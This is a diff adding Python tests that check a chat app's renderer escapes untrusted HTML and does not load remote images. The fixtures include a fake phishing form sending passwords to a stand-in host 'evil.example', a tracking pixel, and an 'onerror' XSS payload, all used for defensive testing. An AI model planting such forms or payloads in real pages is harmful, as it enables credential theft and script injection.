@@ -106,3 +106,31 @@ def test_shadow_stage_event_does_not_move_the_pointer(bundled_tasks):
     task = bundled_tasks[0]
     events = _stored([*_opening(task), StageEvent(stage_index=1, advanced=True, reply_kind="disclose", decided_by="shadow", shadow=True)])
     assert stage_pointer(events) == 0
+
+
+def test_untrusted_text_draws_no_html_and_loads_no_image():
+    from vibesearch.app.render import inert
+
+    phishing = "Session expired. <form action='http://evil.example/steal'><input type=password name=p><button>Log in</button></form>"
+    shown = inert(phishing + " ![](http://evil.example/pixel.png) and [a link](http://ok.example)")
+    assert "<form" not in shown and "<input" not in shown and "<button" not in shown
+    assert "&lt;form" in shown and "![" not in shown and "[🖼 ](http://evil.example/pixel.png)" in shown
+    assert "[a link](http://ok.example)" in shown  # links stay links (nothing is fetched until clicked)
+    assert inert("```python\nif a < b: print('<b>')\n```") == "```python\nif a < b: print('<b>')\n```"  # code stays code
+    assert inert("x < 3 and 5 > 2") == "x < 3 and 5 > 2"
+    assert "<form" not in inert("``<form>`")  # a mismatched backtick run is not code
+
+
+def test_every_chat_bubble_made_of_untrusted_text_is_inert():
+    from vibesearch.app.render import chat_messages
+    from vibesearch.run.events import ErrorEvent, MessageEvent, NoteEvent, StoredEvent, ToolCallEvent, ToolResultEvent
+
+    bad = "<img src=x onerror=alert(1)><form>"
+    datas = [MessageEvent(role="user", content=bad), MessageEvent(role="assistant", content=bad, thinking=bad, final=True),
+             ToolCallEvent(call_id="c", tool="visit"), ToolResultEvent(call_id="c", tool="visit", content=bad),
+             ErrorEvent(source="tool", message=bad), NoteEvent(text=bad)]
+    from datetime import datetime, timezone
+
+    events = [StoredEvent(run_id="r", seq=i, ts=datetime.now(timezone.utc), data=d) for i, d in enumerate(datas)]
+    for msg in chat_messages(events):
+        assert "<img" not in str(msg.content) and "<form" not in str(msg.content), msg.content
